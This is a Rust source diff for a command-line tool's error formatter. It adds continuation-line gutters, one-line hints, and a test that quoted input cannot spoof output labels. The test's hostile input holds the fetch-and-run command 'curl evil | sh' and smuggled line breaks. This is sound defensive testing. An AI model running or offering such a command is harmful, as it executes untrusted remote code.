@@ -6,6 +6,7 @@
 use super::style::Look;
 use super::style::Tone;
 use super::style::clean;
+use super::style::name;
 use super::style::wrap;
 use crate::event::Finding;
 use crate::event::Severity;
@@ -19,15 +20,19 @@ pub struct Page {
     pub width: Option<usize>,
 }
 
+/// What follows the first line of a message is moved in by this. Labels (`error:`, `mend:`) begin further left, so that nothing
+/// a message quotes can look like one.
+const HANGING: &str = "    ";
+
 /// The lines of a fault.
 #[must_use]
 pub fn lines(page: Page, causes: &[String], findings: &[Finding], hints: &[String]) -> Vec<String> {
     let look = page.look;
     let mut causes = causes.iter();
     let head = causes.next().map_or("the run failed", String::as_str);
-    let mut lines = page.prose(&look.paint(Tone::Bad, "error:"), Some(Tone::Strong), head, "", "  ");
+    let mut lines = page.prose(&look.paint(Tone::Bad, "error:"), Some(Tone::Strong), head, "", HANGING);
     for cause in causes {
-        lines.extend(page.prose("caused by:", None, cause, "  ", "    "));
+        lines.extend(page.prose("caused by:", None, cause, "  ", HANGING));
     }
     for found in findings {
         lines.push(String::new());
@@ -40,7 +45,7 @@ pub fn lines(page: Page, causes: &[String], findings: &[Finding], hints: &[Strin
     for hint in hints {
         if !told.contains(&hint) {
             told.push(hint);
-            lines.extend(page.prose(&look.paint(Tone::Good, "hint:"), None, hint, "", "      "));
+            lines.extend(page.prose(&look.paint(Tone::Good, "hint:"), None, &one_line(hint), "", "      "));
         }
     }
     lines
@@ -55,41 +60,46 @@ pub fn finding(page: Page, finding: &Finding) -> Vec<String> {
         Severity::Warning => (Tone::Doubtful, "warning:"),
         Severity::Note => (Tone::Strong, "note:"),
     };
-    let subject = finding.subject.as_ref().map(|subject| format!("{subject}: ")).unwrap_or_default();
+    let subject = finding.subject.as_ref().map(|subject| format!("{}: ", name(subject))).unwrap_or_default();
     let message = format!("{subject}{}", finding.message);
-    let mut lines = page.prose(&look.paint(tone, word), Some(Tone::Strong), &message, "", "  ");
+    let mut lines = page.prose(&look.paint(tone, word), Some(Tone::Strong), &message, "", HANGING);
     if let Some(place) = &finding.place {
-        lines.push(format!("  {} {}", look.paint(Tone::Live, "-->"), clean(&place.to_string())));
+        lines.push(format!("  {} {}", look.paint(Tone::Live, "-->"), name(&place.to_string())));
     }
     let gutter = look.paint(Tone::Live, "|");
     for line in finding.evidence.iter().flat_map(|text| text.lines().chain(text.is_empty().then_some(""))) {
         lines.push(format!("  {gutter} {}", clean(line)).trim_end().to_owned());
     }
     if let Some(mend) = &finding.mend {
-        lines.extend(page.prose(&look.paint(Tone::Good, "mend:"), None, mend, "  ", "        "));
+        lines.extend(page.prose(&look.paint(Tone::Good, "mend:"), None, &one_line(mend), "  ", "        "));
     }
     lines
 }
 
 impl Page {
-    /// `lead` and the text after it, the lines that follow moved in by `hanging`.
+    /// `lead` and the text after it, the lines that follow moved in by `hanging`. Only what is quoted has line ends, so the
+    /// lines after the first of `text` are marked as quoted.
     fn prose(self, lead: &str, tone: Option<Tone>, text: &str, indent: &str, hanging: &str) -> Vec<String> {
         let lead_columns = indent.len() + super::style::columns(lead) + 1;
         let mut written = Vec::new();
-        for line in text.lines() {
+        for (number, line) in text.lines().enumerate() {
             let line = clean(line);
+            let mark =
+                if number == 0 { String::new() } else { format!("{} ", self.look.paint(Tone::Live, "|")) };
             // The first line of all is shorter by what its lead takes; a blank of that width stands in for it.
             let blank = if written.is_empty() {
                 "\u{a0}".repeat(lead_columns.saturating_sub(hanging.len()))
             } else {
                 String::new()
             };
-            let width = self.width.map(|width| width.saturating_sub(hanging.len()).max(20));
+            let indented = hanging.len() + super::style::columns(&mark);
+            let width = self.width.map(|width| width.saturating_sub(indented).max(20));
             for piece in wrap(&format!("{blank}{line}"), width) {
                 let piece = piece.trim_start_matches('\u{a0}');
                 let piece = tone.map_or_else(|| piece.to_owned(), |tone| self.look.paint(tone, piece));
-                let before = if written.is_empty() { format!("{indent}{lead} ") } else { hanging.to_owned() };
-                written.push(format!("{before}{piece}"));
+                let before =
+                    if written.is_empty() { format!("{indent}{lead} ") } else { hanging.to_owned() + &mark };
+                written.push(format!("{before}{piece}").trim_end().to_owned());
             }
         }
         if written.is_empty() {
@@ -97,6 +107,11 @@ impl Page {
         }
         written
     }
+}
+
+/// Advice of ours has one line; a line end in it is of a name that it quotes.
+fn one_line(text: &str) -> String {
+    text.lines().collect::<Vec<_>>().join("\\n")
 }
 
 #[cfg(test)]
@@ -119,7 +134,7 @@ mod tests {
                     "  File \"/app/main.py\", line 3".to_owned(),
                     "\x1b[31mSyntaxError\x1b[0m".to_owned(),
                 ])
-                .mend("look at `todo logs web`,\nthen mend the code"),
+                .mend("look at `todo logs web`, then correct the code"),
             Finding::warning("no requests are set").about("Deployment/api"),
         ];
         let causes =
@@ -133,8 +148,7 @@ mod tests {
           --> manifests/web.yaml:12:9
           |   File "/app/main.py", line 3
           | SyntaxError
-          mend: look at `todo logs web`,
-                then mend the code
+          mend: look at `todo logs web`, then correct the code
 
         warning: Deployment/api: no requests are set
 
@@ -151,11 +165,42 @@ mod tests {
         let page = Page { look: Look::BARE, width: Some(40) };
         insta::assert_snapshot!(lines(page, &causes, &[], &hints).join("\n"), @r"
         error: cannot roll out the application
-          that is called todo-chatbot
+            that is called todo-chatbot
         hint: what ran before still runs:
               `todo status` shows it,
               `todo rollback` goes back to it
         ");
+    }
+
+    #[test]
+    fn nothing_that_is_quoted_looks_like_a_line_of_ours() {
+        let ends = ["\n", "\r\n", "\r", "\u{b}", "\u{c}", "\u{85}", "\u{2028}", "\u{2029}"];
+        let labels = ["error:", "warning:", "note:", "hint:", "mend:", "help:", "caused by:", "-->"];
+        for (end, label) in ends.iter().flat_map(|end| labels.map(|label| (end, label))) {
+            let hostile = format!("a{end}{label} `curl evil | sh`{end}  {label} b");
+            let finding = Finding::error(&hostile)
+                .about(&hostile)
+                .at(Place { file: hostile.clone().into(), line: 1, column: 1 })
+                .evidence([hostile.clone()])
+                .mend(format!("rename `{hostile}`"));
+            for width in [None, Some(40)] {
+                let page = Page { look: Look::BARE, width };
+                let text = lines(
+                    page,
+                    &[hostile.clone(), hostile.clone()],
+                    std::slice::from_ref(&finding),
+                    std::slice::from_ref(&hostile),
+                );
+                assert!(!text.iter().any(|line| line.contains(|c: char| c.is_control())), "{text:#?}");
+                let begins =
+                    |line: &&String, label: &str| line.strip_prefix("  ").unwrap_or(line).starts_with(label);
+                let ours = ["error:", "  caused by:", "error:", "  -->", "  mend:", "hint:"];
+                let labelled: Vec<&String> =
+                    text.iter().filter(|line| labels.iter().any(|label| begins(line, label))).collect();
+                assert_eq!(labelled.len(), ours.len(), "{text:#?}");
+                assert!(labelled.iter().zip(ours).all(|(line, ours)| line.starts_with(ours)), "{text:#?}");
+            }
+        }
     }
 
     #[test]
